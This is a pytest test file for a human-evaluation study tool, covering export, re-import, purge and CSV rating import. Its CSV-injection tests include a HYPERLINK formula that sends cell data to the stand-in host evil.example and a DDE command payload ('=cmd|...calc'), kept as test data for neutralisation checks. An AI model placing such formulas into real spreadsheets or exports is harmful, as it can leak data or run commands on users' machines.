"""Study exports, their re-import, CSV import of outside ratings, and the admin's export-then-purge."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import random
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
import sqlite_utils

from core import db as dbmod
from core import export, human_eval, quality, raters
from core.__main__ import main as cli_main
from core.errors import InputError, WorkbenchError
from core.plan import StoredPlan, StudyPlan
from tests.simulated_study import MODEL, add_raters, count_ratings, explain_neurons, prefers, run_raters

A, B = "summary@gpt-4", "original@gpt-4"
CODES = {"ann": "ann-SECRET-code", "bob": "bob-SECRET-code", "boss": "boss-SECRET-code"}


@pytest.fixture
def rated(db: sqlite_utils.Database) -> sqlite_utils.Database:
    """A study of 12 neurons (plus gold items) rated twice per item, with simulation scores on most explanations."""
    neurons = explain_neurons(db, 12)
    human_eval.create_study(db, "Pilot study", f"{A},{B}", neurons, 2, seed=3, gold_share=0.2, instructions="Pick one")
    for name, code in CODES.items():
        raters.add_rater(db, name, code, admin=name == "boss")
    rng = random.Random(4)
    run_raters(db, "Pilot study", {"ann": prefers(A, 0.8, rng), "bob": prefers(A, 0.6, rng)})
    rows = dbmod.list_explanations(db, MODEL)
    base = {"simulator": "hf:tiny", "method": "all_at_once", "split": "valid", "status": "ok", "created_at": "x"}
    db["scores"].insert_all(
        {**base, "explanation_id": row["id"], "score": 0.5 if row["format"] == "summary" else 0.2 + 0.01 * i}
        for i, row in enumerate(rows[:-2])
    )
    item = next(item["item_id"] for item in human_eval.study_items(db, "Pilot study") if not item["is_gold"])
    human_eval.submit_rating(db, "Pilot study", "ann", item, "tie", confidence=2, comment='says "both", fine\nreally')
    return db


@pytest.mark.parametrize("fmt", export.EXPORT_FORMATS)
def test_an_export_reproduces_the_statistics_on_reimport(rated, fmt) -> None:
    files = export.export_study(rated, "Pilot study", fmt)
    expected_names = {
        "csv": {"Pilot_study_ratings.csv", "Pilot_study_items.csv", "Pilot_study_summary.json"},
        "json": {"Pilot_study.json"},
        "parquet": {"Pilot_study_ratings.parquet", "Pilot_study_items.parquet", "Pilot_study_summary.json"},
    }
    assert set(files) == expected_names[fmt]
    loaded = export.load_export(files)
    recomputed = export.reproduce_summary(loaded).to_json()
    assert recomputed == {key: loaded.summary[key] for key in recomputed}
    assert len(loaded.ratings) == count_ratings(rated)
    assert len(loaded.items) == len(human_eval.study_items(rated, "Pilot study"))


def test_the_summary_holds_statistics_config_and_seed(rated) -> None:
    summary = json.loads(export.export_study(rated, "Pilot study", "csv")["Pilot_study_summary.json"])
    required = {"arms", "n_ratings", "wins", "ties", "both_bad", "win_rate", "wilson_ci", "binomial_p", "agreement"}
    assert required | {"left_win_rate"} <= set(summary)
    assert summary["arms"] == [A, B]
    assert summary["ties"] == 1
    assert summary["study"]["seed"] == 3
    assert summary["study"]["instructions"] == "Pick one"
    assert summary["options"] == {"simulator": "hf:tiny", "min_gold_accuracy": None}
    vs_scores = summary["human_vs_automated"]
    assert vs_scores["n"] > 0 and 0 <= vs_scores["ci"][0] <= vs_scores["rate"] <= vs_scores["ci"][1] <= 1
    assert {row["rater"] for row in summary["gold"]["per_rater"]} == {"ann", "bob"}


def test_ratings_are_unblinded_one_row_each_and_items_carry_aggregates(rated) -> None:
    data = export.study_data(rated, "Pilot study")
    ratings = data.ratings
    assert len(ratings) == count_ratings(rated)
    row = ratings[ratings["choice"] == "tie"].iloc[0]
    assert row["comment"] == 'says "both", fine\nreally'
    assert (row["confidence"], row["revisions"], row["rater"]) == (2, 1, "ann")
    csv_text = export.export_study(rated, "Pilot study", "csv")["Pilot_study_ratings.csv"].decode()
    assert ",2," in csv_text and ",2.0," not in csv_text  # confidence stays an integer beside missing ones
    decisive = ratings[ratings["choice"] == "left"].iloc[0]
    assert decisive["winner_arm"] == decisive["left_arm"]
    assert {"neuron", "left_text", "right_text", "left_explainer", "seconds", "created_at"} <= set(ratings.columns)
    items = data.items
    assert (items["n_ratings"] == items[["n_left", "n_right", "n_tie", "n_both_bad"]].sum(axis=1)).all()
    assert items["n_ratings"].sum() == len(ratings)
    assert items["left_score"].notna().sum() > 0 and items["left_score"].isna().sum() > 0


@pytest.mark.parametrize("fmt", export.EXPORT_FORMATS)
def test_every_exported_row_names_its_explanations_source_and_older_exports_still_load(rated, fmt) -> None:
    files = export.export_study(rated, "Pilot study", fmt)
    loaded = export.load_export(files)
    for frame in (loaded.ratings, loaded.items):
        regular = frame[frame["is_gold"] == 0]
        assert set(regular["left_source"]) == set(regular["right_source"]) == {"imported"}
        assert set(regular["left_explainer"]) == {"gpt-4"}
    assert loaded.summary["arm_sources"] == [
        {"arm": A, "format": "summary", "explainer": "gpt-4", "source": "imported",
         "origin": "an import of unknown file", "n_explanations": 12},
        {"arm": B, "format": "original", "explainer": "gpt-4", "source": "imported",
         "origin": "an import of unknown file", "n_explanations": 12},
    ]  # fmt: skip
    # An export written before the source columns existed still loads and reproduces its statistics.
    older = {}
    for name, data in files.items():
        if name.endswith(".csv"):
            frame = export._read_csv(data).drop(columns=["left_source", "right_source"])
            older[name] = export.csv_bytes(frame)
        elif name.endswith(".parquet"):
            buffer = io.BytesIO()
            pd.read_parquet(io.BytesIO(data)).drop(columns=["left_source", "right_source"]).to_parquet(buffer)
            older[name] = buffer.getvalue()
        elif fmt == "json":
            bundle = json.loads(data)
            for part in ("ratings", "items"):
                bundle[part] = [{k: v for k, v in row.items() if not k.endswith("_source")} for row in bundle[part]]
            bundle["summary"].pop("arm_sources")
            older[name] = json.dumps(bundle).encode()
        else:
            summary = json.loads(data)
            summary.pop("arm_sources")
            older[name] = json.dumps(summary).encode()
    again = export.load_export(older)
    recomputed = export.reproduce_summary(again).to_json()
    assert recomputed == {key: loaded.summary[key] for key in recomputed}


def test_exports_never_contain_access_codes_hashes_or_salts(rated) -> None:
    secrets = [*CODES.values(), *(row[key] for row in rated["raters"].rows for key in ("code_hash", "salt"))]
    for fmt in export.EXPORT_FORMATS:
        for name, data in export.export_study(rated, "Pilot study", fmt).items():
            for secret in secrets:
                assert secret.encode() not in data, (fmt, name)
            if name.endswith((".csv", ".json")):
                assert b"code_hash" not in data and b"salt" not in data


def test_write_export_to_a_folder_a_zip_or_a_json_file(rated, tmp_path: Path) -> None:
    files = export.export_study(rated, "Pilot study", "csv")
    folder = export.write_export(files, tmp_path / "out")
    assert sorted(path.name for path in folder) == sorted(files)
    opened = pd.read_csv(tmp_path / "out" / "Pilot_study_ratings.csv")
    assert len(opened) == count_ratings(rated)
    (archive,) = export.write_export(files, tmp_path / "export.zip")
    assert sorted(zipfile.ZipFile(archive).namelist()) == sorted(files)
    assert export.reproduce_summary(export.load_export(archive)) == export.reproduce_summary(
        export.load_export(tmp_path / "out")
    )
    (single,) = export.write_export(export.export_study(rated, "Pilot study", "json"), tmp_path / "s.json")
    assert json.loads(single.read_text())["summary"]["arms"] == [A, B]
    with pytest.raises(InputError, match="export format 'xml'"):
        export.export_study(rated, "Pilot study", "xml")


def test_a_summary_without_its_arms_is_refused_by_name(rated) -> None:
    files = export.export_study(rated, "Pilot study", "csv")
    summary = json.loads(files["Pilot_study_summary.json"])
    summary.pop("arms")
    damaged = export.load_export({**files, "Pilot_study_summary.json": json.dumps(summary).encode()})
    with pytest.raises(InputError, match=r"^the export's summary: arms: Field required"):
        export.reproduce_summary(damaged)
    summary = {**json.loads(files["Pilot_study_summary.json"]), "plan": {"plan": {}, "sha256": "x"}}
    damaged = export.load_export({**files, "Pilot_study_summary.json": json.dumps(summary).encode()})
    with pytest.raises(InputError, match=r"^the export's summary: plan: created_at: Field required"):
        export.reproduce_summary(damaged)


def test_a_csv_roundtrip_keeps_numeric_looking_rater_names(db) -> None:
    neurons = explain_neurons(db, 4)
    human_eval.create_study(db, "S", f"{A},{B}", neurons, 1, seed=1, overlap_share=0.0)
    raters.add_rater(db, "007", "code-007")
    run_raters(db, "S", {"007": prefers(A, 1.0, random.Random(0))})
    loaded = export.load_export(export.export_study(db, "S", "csv"))
    assert list(loaded.ratings["rater"].unique()) == ["007"]
    assert export.reproduce_summary(loaded).statistics.per_rater[0].rater == "007"


def test_purge_exports_first_and_needs_an_admin(rated, tmp_path: Path) -> None:
    before = count_ratings(rated)
    rater = raters.authenticate(rated, "ann", CODES["ann"])
    with pytest.raises(InputError, match="only an admin"):
        export.purge_study_ratings(rated, "Pilot study", rater, tmp_path / "nope")
    assert count_ratings(rated) == before
    admin = raters.authenticate(rated, "boss", CODES["boss"])
    blocker = tmp_path / "a-file"
    blocker.write_text("in the way")
    with pytest.raises(InputError, match="cannot write the export"):
        export.purge_study_ratings(rated, "Pilot study", admin, blocker / "out")
    assert count_ratings(rated) == before
    result = export.purge_study_ratings(rated, "Pilot study", admin, tmp_path / "purged.zip", fmt="csv")
    assert result["deleted"] == before
    assert count_ratings(rated) == 0 and rated["rating_audit"].count == 0
    assert len(export.load_export(tmp_path / "purged.zip").ratings) == before
    # The study stays, ready for new ratings.
    assert human_eval.next_item(rated, "Pilot study", "ann") is not None


def test_a_purge_never_replaces_an_earlier_export(rated, tmp_path: Path) -> None:
    """The first purge's export is the only copy of its ratings: a second purge to the same --out must refuse."""
    admin = raters.authenticate(rated, "boss", CODES["boss"])
    first = export.purge_study_ratings(rated, "Pilot study", admin, tmp_path / "purged.json")
    saved = (tmp_path / "purged.json").read_bytes()
    assert first["deleted"] > 0
    item = human_eval.next_item(rated, "Pilot study", "ann")
    human_eval.submit_rating(rated, "Pilot study", "ann", item.item_id, "left")
    with pytest.raises(InputError, match="already exists and would be replaced; choose a new --out"):
        export.purge_study_ratings(rated, "Pilot study", admin, tmp_path / "purged.json")
    export.write_export(export.export_study(rated, "Pilot study", "csv"), tmp_path / "folder")
    with pytest.raises(InputError, match="already exists and would be replaced"):
        export.purge_study_ratings(rated, "Pilot study", admin, tmp_path / "folder", fmt="csv")
    assert (tmp_path / "purged.json").read_bytes() == saved and count_ratings(rated) == 1


def test_write_export_refuses_a_json_file_for_several_files_and_leaves_no_partial_file(rated, tmp_path) -> None:
    files = export.export_study(rated, "Pilot study", "csv")
    with pytest.raises(InputError, match=r"a .json file holds only a --format json export; give a folder or a .zip"):
        export.write_export(files, tmp_path / "out.json")
    assert not (tmp_path / "out.json").exists()
    blocked = tmp_path / "blocked"
    (blocked / next(iter(files))).mkdir(parents=True)  # a folder where the first file should go
    with pytest.raises(InputError, match="cannot write the export"):
        export.write_export(files, blocked)
    assert [path.name for path in blocked.iterdir()] == [next(iter(files))]  # no half-written or .partial files


def test_ratings_are_deleted_only_inside_the_purge_transaction(rated) -> None:
    with pytest.raises(WorkbenchError, match="export-then-purge"):
        dbmod.delete_study_ratings(rated, human_eval.get_study(rated, "Pilot study").id)


# --- the agreement and the plan in an export, on ratings chosen by hand -------------------------------------------


def rate(db: sqlite_utils.Database, study: str, rater: str, wants: dict[int, str]) -> None:
    """Rate every item this rater is offered, choosing by arm: wants[item position] is "A", "B" or a choice such as
    "tie"; the side follows from the layout this rater was shown."""
    rater_id = dbmod.get_rater(db, rater)["id"]
    admin = {row["item_id"]: row for row in human_eval.study_items(db, study)}
    while (item := human_eval.next_item(db, study, rater)) is not None:
        seen = human_eval.as_seen(admin[item.item_id], dbmod.shown_layout(db, item.item_id, rater_id)[0])
        want = wants[admin[item.item_id]["position"]]
        arm = {"A": A, "B": B}.get(want)
        choice = want if arm is None else ("left" if seen["left_arm"] == arm else "right")
        human_eval.submit_rating(db, study, rater, item.item_id, choice, seconds=1.0 + admin[item.item_id]["position"])


@pytest.fixture
def four_items(db: sqlite_utils.Database) -> sqlite_utils.Database:
    """Study "S" of four items rated by ann and bob, by arm: ann A, A, A, tie; bob A, A, B, tie."""
    neurons = explain_neurons(db, 4)
    human_eval.create_study(db, "S", f"{A},{B}", neurons, 2, seed=2)
    add_raters(db, ["ann", "bob"])
    rate(db, "S", "ann", {0: "A", 1: "A", 2: "A", 3: "tie"})
    rate(db, "S", "bob", {0: "A", 1: "A", 2: "B", 3: "tie"})
    return db


def test_the_exported_agreement_is_the_value_worked_out_by_hand(four_items) -> None:
    # Codes (A better +1, neither 0, B better −1): ann 1, 1, 1, 0; bob 1, 1, −1, 0.
    # Cohen: p_o = 3/4; ann's marginals (−1, 0, 1) = (0, 1/4, 3/4), bob's (1/4, 1/4, 1/2): p_e = 7/16, κ = 5/9.
    # Fleiss: P_i = 1, 1, 0, 1 → 3/4; p = 1/8, 2/8, 5/8 → P_e = 30/64; κ = (3/4 − 15/32)/(17/32) = 9/17.
    # Ordinal α: coincidences o(1,1) = 4, o(0,0) = 2, o(1,−1) = o(−1,1) = 1; totals n₋ = 1, n₀ = 2, n₊ = 5, n = 8;
    # δ²(−1,0) = 1.5², δ²(0,1) = 3.5², δ²(−1,1) = 5²: α = 1 − 7·(2·25)/(2·(2·2.25 + 10·12.25 + 5·25)) = 11/36.
    files = export.export_study(four_items, "S", "csv")
    summary = json.loads(files["S_summary.json"])
    agreement = summary["agreement"]
    assert (agreement["n_items"], agreement["n_raters"], agreement["fleiss_items"]) == (4, 2, 4)
    assert agreement["fleiss_raters_per_item"] == 2
    assert agreement["percent_agreement"] == pytest.approx(0.75, abs=1e-12)
    assert agreement["cohen_kappa"] == pytest.approx(5 / 9, abs=1e-12)
    assert agreement["fleiss_kappa"] == pytest.approx(9 / 17, abs=1e-12)
    assert agreement["krippendorff_alpha"] == pytest.approx(11 / 36, abs=1e-12)
    assert summary["wins"] == {A: 5, B: 1} and summary["ties"] == 2
    assert export.reproduce_summary(export.load_export(files)).to_json()["agreement"] == agreement


def plan(**settings) -> StudyPlan:
    return StudyPlan(**{"primary_pair": (B, A), "target_neurons": 3, "ratings_per_item": 2, **settings})


def test_the_analysis_follows_the_plan(four_items) -> None:
    data = export.study_data(four_items, "S")
    analysis = export.analyse(data.ratings, [A, B], None)
    assert analysis.interim is None and analysis.plan is None
    assert analysis.statistics.primary_pair == (A, B)
    stored = StoredPlan(plan(min_gold_accuracy=0.5), "x", "now")
    planned = export.analyse(data.ratings, [A, B], stored)
    assert planned.statistics.primary_pair == (B, A) and planned.statistics.arms == (B, A)
    assert planned.statistics.gold.min_accuracy == 0.5
    assert export.analyse(data.ratings, [A, B], stored, 0.9).statistics.gold.min_accuracy == 0.9
    assert planned.interim == export.Interim(True, 3, 3, "final")  # 3 neurons with decisive ratings: the target
    short = StoredPlan(plan(target_neurons=4, interim="hide"), "x", "now")
    hidden = export.analyse(data.ratings, [A, B], short)
    assert hidden.interim == export.Interim(False, 3, 4, "hide")
    assert hidden.statistics.primary.p_value is None and hidden.statistics.binomial_p is None
    banner = export.analyse(data.ratings, [A, B], StoredPlan(plan(target_neurons=4), "x", "now"))
    assert banner.interim.display == "banner" and banner.statistics.primary.p_value is not None
    assert [row.rater for row in planned.quality.raters] == ["ann", "bob"] and planned.plan == stored
    # Decisive ratings of the pair (B, A): B won 1 of 6, none with a confidence; seconds 1-4 from each rater.
    assert planned.quality.by_confidence == (quality.ConfidenceWinRate("none", 6, 1, 1 / 6),)
    assert planned.quality.median_seconds == 2.5
    capped = export.analyse(data.ratings, [A, B], StoredPlan(plan(rater_cap=3), "x", "now"))
    assert (capped.quality.exclusions.n_over_cap, capped.statistics.n_ratings) == (2, 6)
    assert [row.n_over_cap for row in capped.quality.raters] == [1, 1]
    analysis_json = capped.to_json()
    assert analysis_json["quality"]["exclusions"]["n_over_cap"] == 2 and analysis_json["interim"]["reached"]
    summary = export.summary_of(data, 0.25)
    assert (
        summary.options == export.SummaryOptions(None, 0.25) and summary.analysis.statistics.gold.min_accuracy == 0.25
    )
    as_json = summary.to_json()
    assert as_json["study"]["name"] == "S" and as_json["options"] == {"simulator": None, "min_gold_accuracy": 0.25}
    assert (as_json["plan"], as_json["interim"]) == (None, None)
    assert export.StudyAnalysis(planned.statistics, stored, planned.quality, planned.interim).to_json()["plan"] == (
        stored.to_json()
    )
    assert as_json["quality"]["median_seconds"] == 2.5
    assert export.study_summary(four_items, "S") == export.summary_of(data).to_json()
    assert export.study_summary(four_items, "S", "hf:none", 0.5)["options"] == {
        "simulator": "hf:none",
        "min_gold_accuracy": 0.5,
    }
    # A study's stored plan comes with its data, and its summary follows it.
    planned_study = plan(ratings_per_item=1)
    human_eval.create_study(four_items, "P", f"{A},{B}", "0:0,0:1", 1, seed=1, plan=planned_study)
    with_plan = export.study_data(four_items, "P")
    assert with_plan.plan.plan == planned_study
    assert export.summary_of(with_plan).analysis.statistics.arms == (B, A)
    assert export.summary_of(dataclasses.replace(data, plan=stored)).analysis.plan == stored


# --- hostile text: CSV cells a spreadsheet would run, and values that break naive CSV ------------------------------

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "+1",
    "-x",
    "@SUM(A1:A9)",
    "\t=1+1 after a tab",
    "\r=cmd after a carriage return",
    "a lone\rcarriage return",
    "crlf\r\ninside",
    'quotes "like" this, and, commas',
    "'=already quoted by its author",
    "''+two apostrophes",
    "'plain apostrophe",
    "ünïcödé ✓ 日本語",
    "bidi \u202eevil\u202c text",
    "-0.5",
    "trailing cr\r",
)
FORMULA_START = re.compile(r"[=+\-@\t\r]")
PLAIN_NUMBER = re.compile(r"-?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
HOSTILE_RATERS = ("=cmd|' /C calc'!A0", "-1")


@pytest.fixture
def hostile(db: sqlite_utils.Database) -> sqlite_utils.Database:
    """Study "S" whose model, explainers, explanations, rater names and comments are hostile CSV text, every item
    rated by both raters, with confidence and seconds."""
    for index, text in enumerate(HOSTILE):
        for name, explainer, variant in (("summary", "@SUM(1)", text), ("original", "-2+3", f"{text} (other)")):
            dbmod.insert_explanation(
                db, model="=model()", layer=0, neuron=index, format=name, explainer=explainer, explanation=variant,
                source="imported",
            )  # fmt: skip
    arms = ["summary@@SUM(1)", "original@-2+3"]
    human_eval.create_study(db, "S", arms, [f"0:{index}" for index in range(len(HOSTILE))], 2, seed=1)
    add_raters(db, HOSTILE_RATERS)
    comments = [*HOSTILE, "=1+1", "+cmd", "-", "@", "'-x", "last one"]
    count = 0
    for rater in HOSTILE_RATERS:
        while (item := human_eval.next_item(db, "S", rater)) is not None:
            human_eval.submit_rating(
                db, "S", rater, item.item_id, ("left", "right", "tie")[count % 3], confidence=1 + count % 5,
                comment=comments[count % len(comments)], seconds=(0.1 + 0.2) * count,
            )  # fmt: skip
            count += 1
    return db


def plain_rows(frame: pd.DataFrame) -> list[dict]:
    return frame.astype(object).where(frame.notna(), None).to_dict(orient="records")


def test_csv_safe_neutralises_formulas_and_csv_raw_undoes_exactly_that() -> None:
    cases = {
        "=1+1": "'=1+1", "+1": "'+1", "-x": "'-x", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
        "-0.5": "-0.5", "-3": "-3", "-1e5": "-1e5", "-inf": "'-inf", "-\u0661": "'-\u0661", "plain": "plain",
        "": "", "'=x": "''=x", "''+x": "'''+x", "'plain": "'plain", "'": "'", "'-0.5": "'-0.5", " =x": " =x",
        "X=1": "X=1",
    }  # fmt: skip
    for value, cell in cases.items():
        assert export.csv_safe(value) == cell, value
        assert export.csv_raw(cell) == value, cell


def test_hostile_text_round_trips_through_the_csv_export_and_the_import(hostile, tmp_path: Path) -> None:
    data = export.study_data(hostile, "S")
    assert {HOSTILE[0], "a lone\rcarriage return", "'=already quoted by its author"} <= set(data.ratings["comment"])
    assert {"=cmd|' /C calc'!A0", "-1"} == set(data.ratings["rater"])
    files = export.export_study(hostile, "S", "csv")
    for name, frame in (("S_ratings.csv", data.ratings), ("S_items.csv", data.items)):
        rows = list(csv.reader(io.StringIO(files[name].decode(), newline="")))
        assert len(rows) == len(frame) + 1, name  # no value split a row
        for cell in (cell for row in rows for cell in row):
            assert not FORMULA_START.match(cell) or PLAIN_NUMBER.fullmatch(cell), cell
    loaded = export.load_export(files)
    assert list(loaded.ratings.columns) == list(data.ratings.columns)
    assert plain_rows(loaded.ratings) == plain_rows(data.ratings)
    assert plain_rows(loaded.items) == plain_rows(data.items)
    # Our import reads our CSV export back: every rating is found equal to the stored one.
    path = tmp_path / "S_ratings.csv"
    path.write_bytes(files["S_ratings.csv"])
    audit = hostile["rating_audit"].count
    report = export.import_ratings(hostile, "S", path)
    assert (report.read, report.written, report.replaced, report.unchanged, report.rejected) == (
        len(data.ratings), 0, 0, len(data.ratings), 0,
    )  # fmt: skip
    assert hostile["rating_audit"].count == audit
    assert plain_rows(export.study_data(hostile, "S").ratings) == plain_rows(data.ratings)


def test_a_csv_purge_of_hostile_text_reads_back_every_rating(hostile, tmp_path: Path) -> None:
    data = export.study_data(hostile, "S")
    raters.add_rater(hostile, "boss", CODES["boss"], admin=True)
    admin = raters.authenticate(hostile, "boss", CODES["boss"])
    result = export.purge_study_ratings(hostile, "S", admin, tmp_path / "purged", fmt="csv")
    assert result["deleted"] == len(data.ratings) and count_ratings(hostile) == 0
    assert plain_rows(export.load_export(tmp_path / "purged").ratings) == plain_rows(data.ratings)


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full to stand for a full disk")
def test_a_purge_that_cannot_write_its_export_deletes_nothing_and_leaves_no_file(
    rated, db_path: Path, tmp_path: Path, capsys, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The disk fills while the last file is written: the files written before it go too, and the error says why."""
    before, audit = count_ratings(rated), rated["rating_audit"].count
    out = tmp_path / "purged"
    out.mkdir()
    (out / ".Pilot_study_items.csv.partial").symlink_to("/dev/full")  # writing there fails with ENOSPC
    monkeypatch.setenv("EVAL_ADMIN_CODE", CODES["boss"])
    argv = ["study", "purge", "Pilot study", "--admin", "boss", "--out", str(out), "--format", "csv"]
    code = cli_main([*argv, "--db", str(db_path)])
    err = capsys.readouterr().err
    assert code == 2 and (count_ratings(rated), rated["rating_audit"].count) == (before, audit)
    assert list(out.iterdir()) == []  # neither the summary nor the ratings file written before the disk filled
    assert err.count("\n") == 1 and "No space left on device" in err
    assert err.startswith("error: purge of study 'Pilot study' stopped, no rating deleted: cannot write the export")


# --- import of ratings collected elsewhere -----------------------------------------------------------------------


@pytest.fixture
def items(db: sqlite_utils.Database) -> dict[str, int]:
    """Studies "S" (no both_bad) and "Other", and rater ann; S's first three item ids and one of Other's."""
    neurons = explain_neurons(db, 3)
    human_eval.create_study(db, "S", f"{A},{B}", neurons, 2, seed=1, allow_both_bad=False)
    human_eval.create_study(db, "Other", f"{A},{B}", neurons, 2, seed=2)
    add_raters(db, ["ann"])
    ids = [item["item_id"] for item in human_eval.study_items(db, "S")]
    return {"a": ids[0], "b": ids[1], "c": ids[2], "foreign": human_eval.study_items(db, "Other")[0]["item_id"]}


def test_import_is_all_or_nothing_and_reports_every_bad_row_by_line(db, items, tmp_path: Path) -> None:
    a, b, c = items["a"], items["b"], items["c"]
    arabic_c = "".join(chr(0x0660 + int(digit)) for digit in str(c))  # int() reads these as c
    path = tmp_path / "ratings.csv"
    path.write_text(
        "item_id,rater,choice,confidence,seconds,comment,extra\n"
        f"{a},ann,left,4,12.5,fine,x\n"  # line 2: ok
        f"{b},ann,sideways,,,,\n"  # line 3: bad choice
        f'{b},ann,right,,,"two\nlines",\n'  # lines 4-5: ok
        f"{items['foreign']},ann,left,,,,\n"  # line 6: item of another study
        f"{c},zed,left,,,,\n"  # line 7: unknown rater (ok with --create-raters)
        f"{c},ann,both_bad,,,,\n"  # line 8: not allowed in this study
        f"{c},ann,tie,inf,,,\n"  # line 9
        f"{c},ann,tie,,nan,,\n"  # line 10
        f"{c},ann,tie,,-inf,,\n"  # line 11
        f"{c},ann,tie,\u0661,,,\n"  # line 12: an Arabic-Indic digit one
        f"{arabic_c},ann,tie,,,,\n"  # line 13
        f"²:{c},ann,tie,,,,\n"  # line 14
        f"{a},ann,right,,,,\n"  # line 15: a second rating of line 2's item by the same rater
        f"x{c},ann,tie,,,,\n"  # line 16
        f'{c},ann,tie,,,"never closed,\n'  # line 17: an unterminated quote swallows the rest
        f"{c},ann,tie,,,,\n",
        encoding="utf-8",
    )
    bad = [3, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17]
    for create in (False, True):
        wanted = [line for line in bad if not (create and line == 7)]
        with pytest.raises(export.ImportRatingsError, match=rf"nothing imported, {len(wanted)} bad row") as caught:
            export.import_ratings(db, "S", path, create_raters=create)
        assert [line for line, _ in caught.value.errors] == wanted
        assert (count_ratings(db), db["rating_audit"].count, db["raters"].count) == (0, 0, 1)  # zed not created
    messages = dict(caught.value.errors)
    assert "sideways" in messages[3] and "not part of study 'S'" in messages[6] and "both_bad" in messages[8]
    assert "confidence 'inf'" in messages[9] and "seconds 'nan'" in messages[10] and "'-inf'" in messages[11]
    assert "digits 0-9" in messages[12] and arabic_c in messages[13] and "'²:" in messages[14]
    assert "already on line 2" in messages[15] and "never closed" in messages[17]
    assert "\n" not in str(caught.value)


def test_a_field_over_the_size_limit_is_reported_by_line(db, items, tmp_path: Path) -> None:
    limit = csv.field_size_limit()
    path = tmp_path / "ratings.csv"
    over_pythons_default = "n" * 200_000  # csv's default limit is 131072; ours is MAX_FIELD_CHARS
    path.write_text(f"item_id,rater,choice,note\n{items['a']},ann,left,{over_pythons_default}\n", encoding="utf-8")
    assert export.import_ratings(db, "S", path).written == 1
    too_long = "n" * (export.MAX_FIELD_CHARS + 1)
    path.write_text(f'item_id,rater,choice,note\n{items["a"]},ann,left,\n{items["b"]},ann,left,"{too_long}"\n')
    with pytest.raises(export.ImportRatingsError, match=r"line 3: a field is longer than 1,000,000 characters"):
        export.import_ratings(db, "S", path)
    assert csv.field_size_limit() == limit
    assert count_ratings(db) == 1


def test_reimporting_the_same_file_changes_nothing_but_a_new_choice_is_a_revision(db, items, tmp_path) -> None:
    a, b, c = items["a"], items["b"], items["c"]
    path = tmp_path / "ratings.csv"
    rows = f"{a},ann,left,4,12.5,fine\n{b},ann,right,,,\n{c},zed,tie,,0.3,\n"
    path.write_text("item_id,rater,choice,confidence,seconds,comment\n" + rows, encoding="utf-8")
    first = export.import_ratings(db, "S", path, create_raters=True)
    assert (first.read, first.written, first.replaced, first.unchanged, first.created_raters) == (3, 3, 0, 0, ("zed",))
    stored = plain_rows(export.study_data(db, "S").ratings)
    again = export.import_ratings(db, "S", path, create_raters=True)
    assert (again.read, again.written, again.replaced, again.unchanged, again.created_raters) == (3, 0, 0, 3, ())
    assert db["rating_audit"].count == 0 and plain_rows(export.study_data(db, "S").ratings) == stored
    path.write_text(f"item_id,rater,choice\n{b},ann,left\n", encoding="utf-8")
    changed = export.import_ratings(db, "S", path)
    assert (changed.written, changed.replaced, changed.unchanged) == (1, 1, 0)
    assert db["rating_audit"].count == 1
    assert export.study_data(db, "S").ratings["revisions"].tolist() == [0, 1, 0]


def test_the_import_cli_prints_one_summary_line_or_one_error_line(db, db_path, items, tmp_path, capsys) -> None:
    path = tmp_path / "ratings.csv"
    path.write_text(f"item_id,rater,choice\n{items['a']},ann,left\n{items['b']},ann,tie\n", encoding="utf-8")
    argv = ["import-ratings", "--study", "S", str(path), "--db", str(db_path)]
    assert cli_main(argv) == 0
    out = capsys.readouterr().out
    assert out == (
        "study 'S': 2 rows read, 2 written (0 replacing a different rating), 0 unchanged, 0 rejected; "
        "no shown_left column, so each item's default layout was assumed\n"
    )
    assert cli_main([*argv, "--json"]) == 0
    assert json.loads(capsys.readouterr().out) == {
        "read": 2, "written": 0, "replaced": 0, "unchanged": 2, "created_raters": [], "rejected": 0,
        "default_layout": True,
    }  # fmt: skip
    path.write_text(f"item_id,rater,choice\n{items['a']},ann,right\n{items['b']},ann,up\n", encoding="utf-8")
    assert cli_main(argv) == 2
    out, err = capsys.readouterr()
    assert out == "" and err.count("\n") == 1
    assert err.startswith(f"error: {path}: nothing imported, 1 bad row(s) of 2 read") and "line 3: choice 'up'" in err
    assert export.study_data(db, "S").ratings["choice"].tolist() == ["left", "tie"]
    path.write_text("item,rater\n1,ann\n")
    with pytest.raises(InputError, match="item_id, choice"):
        export.import_ratings(db, "S", path)
